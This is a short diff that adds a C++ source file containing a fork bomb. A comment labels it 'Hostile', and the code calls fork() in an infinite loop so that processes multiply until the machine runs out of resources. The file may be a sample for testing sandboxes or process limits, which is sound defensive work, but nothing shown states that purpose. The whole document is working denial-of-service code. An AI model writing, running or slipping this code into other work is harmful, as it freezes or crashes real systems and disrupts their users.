@@ -1,0 +1,5 @@
+// Hostile: a fork bomb. Every fork() that works forks again.
+#include <unistd.h>
+int main() {
+  for (;;) ::fork();
+}
